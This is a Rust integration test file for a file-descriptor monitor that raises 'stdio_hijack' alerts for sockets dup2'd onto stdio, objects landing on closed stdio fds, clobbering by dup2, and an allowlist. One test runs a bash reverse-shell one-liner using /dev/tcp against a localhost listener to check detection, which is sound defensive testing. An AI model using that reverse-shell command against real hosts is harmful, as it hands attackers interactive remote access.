//! stdio_hijack (issue 4): a socket put onto fd 0/1/2 by dup2 (the reverse-shell shape),
//! a socket or file landing on a closed stdio fd through a creating call, and such a
//! landed object clobbered by dup2 (incident 1 of README.md's *Alerts*: the statsd client whose UDP
//! socket landed on fd 0, which the FastCGI host then dup2'd its request connection onto,
//! so sendto() failed with EISCONN). And the allowlist (`--allow NAME`).
use std::{
    io::{Read, Write},
    net::TcpListener,
};

use fdwatch_tests::{alerts::*, model_check::*, *};

/// Asserts that `object` (an alert's `object`/`clobbered`) has these fields (others may
/// be there too: the object record's fields are optional by type).
#[track_caller]
fn assert_object(alert: &Value, key: &str, want: Value) {
    let obj = &alert[key];
    for (k, v) in want.as_object().unwrap() {
        assert_eq!(&obj[k], v, "{key}.{k} of the alert is {}, expected {v}\nalert: {alert}", obj[k]);
    }
}

/// `exe` as the alert should report it: the resolved path of the executable.
fn canonical(path: &std::path::Path) -> String {
    std::fs::canonicalize(path).unwrap().to_str().unwrap().to_string()
}

fn fdops_exe() -> String {
    canonical(&fdops_bin())
}

fn stdio_alerts(records: &[Value], pid: i64) -> Vec<Value> {
    alerts_of(records, "stdio_hijack", pid)
}

// ------------------------------------------------------------------ socket_onto_stdio

/// `bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'` against a listener of the test.
/// bash forks a child which does socket()=3, connect, dup2(3, 1), close(3), dup2(1, 2),
/// dup2(1, 0), then execs `bash -i`, an interactive shell on the socket. The test sends it
/// "exit". One critical alert for the child, fds [0, 1, 2], the socket's peer.
#[test]
fn bash_reverse_shell_is_one_critical_socket_onto_stdio_alert() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let home = TempPath::new("home");
    std::fs::create_dir(&home.0).unwrap();
    let script = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    let mut cmd = fdops_exec(&["/usr/bin/bash", "-c", &script]);
    // An empty HOME: no ~/.bashrc of whoever runs the tests.
    cmd.env("HOME", &home.0);
    let mut root = Proc::waiting(cmd, "bash reverse shell");
    let fw = root.go_watched();

    let mut conn = accept(&listener, "the reverse shell's connection");
    // The interactive bash: the process of the tree with the socket on fd 0.
    let (shell, ino) = wait_for("the interactive bash on the socket", DEADLINE, || {
        for pid in tree_pids(root.pid()) {
            if let (Some(ino), true) = (fd_ino(pid, 0), fd_link(pid, 0).is_some_and(|l| l.starts_with("socket:["))) {
                if proc_stat(pid).is_some_and(|s| s.1 == "bash")
                    && fd_ino(pid, 1) == Some(ino)
                    && fd_ino(pid, 2) == Some(ino)
                {
                    return Ok((pid, ino));
                }
            }
        }
        Err(format!("tree {:?}", tree_pids(root.pid())))
    });
    let exe = exe_of(shell);
    conn.write_all(b"exit\n").unwrap();
    let mut out = Vec::new();
    let _ = conn.read_to_end(&mut out); // until the shell exits (EOF) or DEADLINE
    root.finish_ok();

    fw.expect("the reverse shell's alert", DEADLINE, |r| r["type"] == "alert" && r["pid"] == shell);
    let records = stop(fw);
    let alert = the_alert(&records, "stdio_hijack", shell, "bash -i >& /dev/tcp/...");
    assert_alert(
        &alert,
        json!({
            "kind": "stdio_hijack", "severity": "critical", "pid": shell, "comm": "bash", "exe": exe,
            "shape": "socket_onto_stdio", "fds": [0, 1, 2], "object": ANY,
        }),
    );
    assert_object(
        &alert,
        "object",
        json!({"type": "socket", "name": format!("socket:[{ino}]"), "ino": ino, "domain": "AF_INET",
               "socket_type": "SOCK_STREAM", "peer": format!("127.0.0.1:{port}")}),
    );
    let a = find_evidence(&alert, "event", shell, "dup2", json!({"oldfd": 3, "newfd": 1}), 1, None);
    let b = find_evidence(&alert, "event", shell, "dup2", json!({"oldfd": 1, "newfd": 2}), 2, None);
    let c = find_evidence(&alert, "event", shell, "dup2", json!({"oldfd": 1, "newfd": 0}), 0, None);
    assert!(a < b && b < c, "the three dup2 in order: {alert}");
    // One alert in the whole tree (the children of `bash -i` inherit the socket: no alert).
    let all: Vec<Value> = alert_records(&records);
    assert_eq!(all.len(), 1, "exactly one alert record, no repeats: {all:#?}");
}

/// Python's `os.dup2(sock.fileno(), 0)` in a script: only stdin, and the interpreter
/// runs a script rather than reading code from stdin: one warning, fds [0].
#[test]
fn python_dup2_of_a_tcp_socket_onto_stdin_is_one_warning() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let mut py = Proc::run(&python(), &[&helper("stdio_dup2.py"), &port], "stdio_dup2.py");
    let pid = py.pid();
    let fw = py.go_watched();
    let conn = accept(&listener, "the python client");
    let line = py.line("dup2 ");
    assert_eq!(Proc::field(&line, "pid"), pid);
    let ino = Proc::field(&line, "ino");
    let (comm, exe) = (comm_of(pid), exe_of(pid));
    // The alert is written after its window while python still reads the socket (one
    // that exits within the window is dropped, alert_shells.rs).
    fw.expect("the alert", DEADLINE, |r| r["type"] == "alert" && r["pid"] == pid);
    drop(conn); // EOF on its fd 0: it exits
    py.line("eof");
    py.finish_ok();
    fw.expect("python's exit", DEADLINE, |r| check::event_of(r, pid, "exit"));
    let records = stop(fw);
    let alert = the_alert(&records, "stdio_hijack", pid, "os.dup2(sock, 0)");
    assert_alert(
        &alert,
        json!({
            "kind": "stdio_hijack", "severity": "warning", "pid": pid, "comm": comm, "exe": exe,
            "shape": "socket_onto_stdio", "fds": [0], "object": ANY,
        }),
    );
    assert_object(
        &alert,
        "object",
        json!({"type": "socket", "ino": ino, "domain": "AF_INET", "peer": format!("127.0.0.1:{port}")}),
    );
    // os.dup2 is dup2, or dup3 where inheritable=False; here inheritable (the default).
    let ev: Vec<&Value> = alert["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| {
            e["what"] == "event" && matches!(e["syscall"].as_str(), Some("dup2" | "dup3")) && e["args"]["newfd"] == 0
        })
        .collect();
    assert_eq!(ev.len(), 1, "the dup onto fd 0 is in the evidence: {alert}");
    assert_eq!(all_alerts_of(&records, pid).len(), 1, "{:?}", all_alerts_of(&records, pid));
}

/// fdops: a unix socket dup2'd onto 0, under `--allow EXTRA` or not; it lives on past
/// the alert window (a process that exits within it is dropped: alert_shells.rs).
/// Returns (pid, the socket's fd, its inode, every record).
fn unix_socket_onto_stdin(extra: &[&str]) -> (i64, i64, i64, Vec<Value>) {
    let (fw, mut child) =
        start_watched(&["socket", "AF_UNIX", "SOCK_STREAM", "0", "dup2", "%socket.ret", "0", "sleep_ms", "500"], extra);
    let pid = child.pid();
    let sock = child.op("socket");
    assert_eq!(child.op("dup2").ok(), 0);
    child.finish_ok();
    (pid, sock.ok(), sock.int("ino"), stop_after_exit(fw, pid))
}

/// A lone stdin on a program that is no shell: a warning (issue 15: severity follows
/// the shape).
#[test]
fn unix_socket_dup2_onto_stdin_is_a_warning_without_allow() {
    let (pid, fd, ino, records) = unix_socket_onto_stdin(&[]);
    let alert = the_alert(&records, "stdio_hijack", pid, "dup2(unix socket, 0)");
    assert_alert(
        &alert,
        json!({
            "kind": "stdio_hijack", "severity": "warning", "pid": pid, "comm": "fdops", "exe": fdops_exe(),
            "shape": "socket_onto_stdio", "fds": [0], "object": ANY,
        }),
    );
    assert_object(
        &alert,
        "object",
        json!({"type": "socket", "ino": ino, "domain": "AF_UNIX", "socket_type": "SOCK_STREAM"}),
    );
    find_evidence(&alert, "event", pid, "dup2", json!({"oldfd": fd, "newfd": 0}), 0, None);
}

#[test]
fn allow_by_comm_suppresses_socket_onto_stdio() {
    let (pid, _, _, records) = unix_socket_onto_stdin(&["--allow", "fdops"]);
    assert_no_alerts_for(&records, &[pid], "--allow fdops");
    assert_no_alerts(&records, "--allow fdops");
}

#[test]
fn allow_by_executable_path_suppresses_socket_onto_stdio() {
    let exe = fdops_exe();
    let (pid, _, _, records) = unix_socket_onto_stdin(&["--allow", &exe]);
    assert_no_alerts_for(&records, &[pid], "--allow <fdops' path>");
    assert_no_alerts(&records, "--allow <fdops' path>");
}

#[test]
fn allowing_another_name_does_not_suppress() {
    let (pid, _, _, records) = unix_socket_onto_stdin(&["--allow", "inetd", "--allow", "/usr/sbin/fdops"]);
    let alert = the_alert(&records, "stdio_hijack", pid, "--allow of other programs");
    assert_eq!(alert["shape"], "socket_onto_stdio", "{alert}");
}

// ------------------------------------------------------------------ landed_on_stdio

#[test]
fn socket_landing_on_closed_stdin_is_one_warning() {
    let (fw, mut child) = start_watched(&["close", "0", "socket", "AF_INET", "SOCK_DGRAM", "0"], &[]);
    let pid = child.pid();
    child.op("close").ok();
    let sock = child.op("socket");
    assert_eq!(sock.ok(), 0, "the socket takes the lowest free fd, 0");
    child.finish_ok();
    fw.expect("the alert", DEADLINE, |r| r["type"] == "alert" && r["pid"] == pid);
    let records = stop(fw);
    let alert = the_alert(&records, "stdio_hijack", pid, "close(0); socket() = 0");
    assert_alert(
        &alert,
        json!({
            "kind": "stdio_hijack", "severity": "warning", "pid": pid, "comm": "fdops", "exe": fdops_exe(),
            "shape": "landed_on_stdio", "fds": [0], "object": ANY,
        }),
    );
    assert_object(
        &alert,
        "object",
        json!({"type": "socket", "ino": sock.int("ino"), "domain": "AF_INET", "socket_type": "SOCK_DGRAM"}),
    );
    let c = find_evidence(&alert, "event", pid, "close", json!({"fd": 0}), 0, None);
    let s = find_evidence(&alert, "event", pid, "socket", json!({"domain": "AF_INET"}), 0, None);
    assert!(c < s, "close before socket: {alert}");
    assert_eq!(all_alerts_of(&records, pid).len(), 1);
}

/// A file opened read-write (say a database) that gets fd 1: stray printfs go into it.
#[test]
fn file_opened_read_write_landing_on_closed_stdout_is_one_warning() {
    let path = TempPath::new("landed");
    let (fw, mut child) = start_watched(&["close", "1", "open", path.as_str(), "O_RDWR|O_CREAT", "644"], &[]);
    let pid = child.pid();
    child.finish_ok(); // its lines after the close went into the file
    let out = std::fs::read_to_string(&path.0).unwrap();
    assert!(out.contains("op=open ret=1 "), "open should return 1: {out}");
    fw.expect("the alert", DEADLINE, |r| r["type"] == "alert" && r["pid"] == pid);
    let records = stop(fw);
    let alert = the_alert(&records, "stdio_hijack", pid, "close(1); open(file, O_RDWR) = 1");
    assert_alert(
        &alert,
        json!({
            "kind": "stdio_hijack", "severity": "warning", "pid": pid, "comm": "fdops", "exe": fdops_exe(),
            "shape": "landed_on_stdio", "fds": [1], "object": ANY,
        }),
    );
    assert_object(&alert, "object", json!({"type": "file", "name": path.as_str()}));
    find_evidence(&alert, "event", pid, "open", json!({"pathname": path.as_str()}), 1, None);
}

/// `close(1); open(f, O_WRONLY)` and `close(0); open(f, O_RDONLY)` are a shell's
/// redirections done by hand: a file opened the way the stdio number is used.
#[test]
fn file_opened_the_way_the_stdio_number_is_used_is_no_alert() {
    let out = TempPath::new("redir-out");
    let (fw, mut child) = start_watched(
        &[
            "close",
            "0",
            "open",
            "/etc/hostname",
            "O_RDONLY",
            "0",
            "close",
            "1",
            "openat",
            "AT_FDCWD",
            out.as_str(),
            "O_WRONLY|O_CREAT|O_TRUNC",
            "644",
        ],
        &[],
    );
    let pid = child.pid();
    child.finish_ok();
    let records = stop_after_exit(fw, pid);
    let out = std::fs::read_to_string(&out.0).unwrap();
    assert!(out.contains("op=openat ret=1 "), "the file should be fd 1: {out}");
    assert_no_alerts(&records, "stdin from a file opened O_RDONLY, stdout to a file opened O_WRONLY");
}

#[test]
fn allow_suppresses_landed_on_stdio() {
    let (fw, mut child) = start_watched(&["close", "0", "socket", "AF_INET", "SOCK_DGRAM", "0"], &["--allow", "fdops"]);
    let pid = child.pid();
    assert_eq!(child.op("socket").ok(), 0);
    child.finish_ok();
    let records = stop_after_exit(fw, pid);
    assert_no_alerts(&records, "landed_on_stdio of an allowed process");
}

// ------------------------------------------------------------------ stdio_clobbered

/// The statsd incident in one fdops process: a FastCGI listener and a statsd server
/// first, then close(0) (the uninitialised socket member), socket(UDP) = 0, connect(0,
/// statsd), a unix stream connection accepted and dup2'd onto 0 (the FastCGI host),
/// sendto(0, statsd) = EISCONN. `pause_ms` between the landing and the dup2.
fn statsd(extra: &[&str], pause_ms: &str) -> Statsd {
    statsd_with(extra, pause_ms, "0")
}

/// `statsd`, with `late_ms` between the dup2 and the failing sendto.
fn statsd_with(extra: &[&str], pause_ms: &str, late_ms: &str) -> Statsd {
    let name = abstract_name("fcgi");
    let (fw, mut child) = start_watched(
        &[
            "listen_unix",
            &name,
            "udp",
            "127.0.0.1:0",
            "close",
            "0",
            "socket",
            "AF_INET",
            "SOCK_DGRAM",
            "0",
            "connect",
            "0",
            "127.0.0.1:%udp.port",
            "sleep_ms",
            pause_ms,
            "socket",
            "AF_UNIX",
            "SOCK_STREAM",
            "0",
            "connect",
            "%socket.ret",
            &name,
            "accept",
            "%listen_unix.fd",
            "dup2",
            "%accept.ret",
            "0",
            "sleep_ms",
            late_ms,
            "sendto",
            "0",
            "127.0.0.1:%udp.port",
            "5",
            "0",
        ],
        extra,
    );
    let pid = child.pid();
    let statsd_port = child.op("udp").int("port");
    let udp = child.op("socket");
    assert_eq!(udp.ok(), 0, "the UDP socket lands on fd 0");
    child.op("connect").ok();
    let unix = child.op("socket").ok();
    child.op("connect").ok();
    let acc = child.op("accept");
    let conn = acc.ok();
    assert_eq!(child.op("dup2").ok(), 0);
    let send = child.op("sendto");
    assert_eq!(send.get("errno"), "EISCONN", "{}", send.raw);
    child.finish_ok();
    let records = stop_after_exit(fw, pid);
    Statsd { pid, statsd_port, udp_ino: udp.int("ino"), conn, conn_ino: acc.int("ino"), unix, records }
}

struct Statsd {
    pid: i64,
    statsd_port: i64,
    udp_ino: i64,
    conn: i64,
    conn_ino: i64,
    #[allow(dead_code)]
    unix: i64,
    records: Vec<Value>,
}

fn check_clobbered(s: &Statsd, alert: &Value) {
    assert_alert(
        alert,
        json!({
            "kind": "stdio_hijack", "severity": "critical", "pid": s.pid, "comm": "fdops", "exe": fdops_exe(),
            "shape": "stdio_clobbered", "fds": [0], "object": ANY, "clobbered": ANY,
        }),
    );
    assert_object(
        alert,
        "object",
        json!({"type": "socket", "ino": s.conn_ino, "domain": "AF_UNIX", "socket_type": "SOCK_STREAM"}),
    );
    assert_object(
        alert,
        "clobbered",
        json!({"type": "socket", "ino": s.udp_ino, "domain": "AF_INET", "socket_type": "SOCK_DGRAM",
               "peer": format!("127.0.0.1:{}", s.statsd_port)}),
    );
    let d = find_evidence(alert, "event", s.pid, "dup2", json!({"oldfd": s.conn, "newfd": 0}), 0, None);
    let sym = find_evidence(
        alert,
        "symptom",
        s.pid,
        "sendto",
        json!({"sockfd": 0, "addr": format!("127.0.0.1:{}", s.statsd_port)}),
        -106,
        Some("EISCONN"),
    );
    assert!(d < sym, "the EISCONN symptom follows the dup2: {alert}");
}

/// The whole chain within the 250 ms window: the landing alert is upgraded in place, so
/// ONE critical stdio_clobbered alert whose evidence is close, socket() = 0, dup2, and
/// the EISCONN symptom.
#[test]
fn statsd_incident_is_one_critical_stdio_clobbered_alert_with_the_eisconn_symptom() {
    let s = statsd(&[], "0");
    let all = stdio_alerts(&s.records, s.pid);
    assert_eq!(all.len(), 1, "one alert (the landing upgraded in place), got:\n{all:#?}");
    let alert = &all[0];
    check_clobbered(&s, alert);
    let c = find_evidence(alert, "event", s.pid, "close", json!({"fd": 0}), 0, None);
    let sock = find_evidence(
        alert,
        "event",
        s.pid,
        "socket",
        json!({"domain": "AF_INET", "socket_type": "SOCK_DGRAM"}),
        0,
        None,
    );
    let d = find_evidence(alert, "event", s.pid, "dup2", json!({"oldfd": s.conn, "newfd": 0}), 0, None);
    assert!(c < sock && sock < d, "close, socket, dup2 in order: {alert}");
    assert_eq!(alert_records(&s.records).len(), 1, "{:#?}", alert_records(&s.records));
}

/// The dup2 long after the landing (its alert already written): two alerts, the warning
/// then the critical clobber.
#[test]
fn clobber_after_the_landing_alert_was_written_is_a_second_critical_alert() {
    let s = statsd(&[], "800");
    let all = stdio_alerts(&s.records, s.pid);
    assert_eq!(all.len(), 2, "the landing warning, then the clobber:\n{all:#?}");
    assert_alert(
        &all[0],
        json!({
            "kind": "stdio_hijack", "severity": "warning", "pid": s.pid, "comm": "fdops", "exe": fdops_exe(),
            "shape": "landed_on_stdio", "fds": [0], "object": ANY,
        }),
    );
    assert_object(&all[0], "object", json!({"type": "socket", "ino": s.udp_ino, "domain": "AF_INET"}));
    check_clobbered(&s, &all[1]);
    assert_ne!(all[0]["id"], all[1]["id"]);
}

/// The allowlist does not cover stdio_clobbered.
#[test]
fn allow_does_not_suppress_stdio_clobbered() {
    let s = statsd(&["--allow", "fdops"], "0");
    let all = stdio_alerts(&s.records, s.pid);
    assert_eq!(all.len(), 1, "only the clobber (the landing is allowed):\n{all:#?}");
    check_clobbered(&s, &all[0]);
}

/// The EISCONN comes 800 ms after the dup2, past the alert's 250 ms window: the alert is
/// written without it, and the failure follows as a `symptom` record tied to its id.
#[test]
fn a_symptom_after_the_window_is_a_symptom_record_of_the_alert() {
    let s = statsd_with(&[], "0", "800");
    let all = stdio_alerts(&s.records, s.pid);
    assert_eq!(all.len(), 1, "{all:#?}");
    let alert = &all[0];
    assert_eq!(alert["shape"], "stdio_clobbered", "{alert}");
    assert!(
        !alert["evidence"].as_array().unwrap().iter().any(|e| e["what"] == "symptom"),
        "the symptom came after the window: {alert}"
    );
    let symptoms: Vec<&Value> = s.records.iter().filter(|r| r["type"] == "symptom").collect();
    assert_eq!(symptoms.len(), 1, "{symptoms:#?}");
    assert_event(
        symptoms[0],
        &json!({
            "type": "symptom", "ts": ANY, "host": ANY, "id": alert["id"], "kind": "stdio_hijack", "pid": s.pid,
            "comm": "fdops", "syscall": "sendto",
            "args": {"sockfd": 0, "len": 5, "flags": "0", "addr": format!("127.0.0.1:{}", s.statsd_port), "addrlen": 16},
            "ret": -106, "errno": "EISCONN",
        }),
    );
    assert!(symptoms[0]["ts"].as_str() > alert["ts"].as_str(), "after the alert");
}
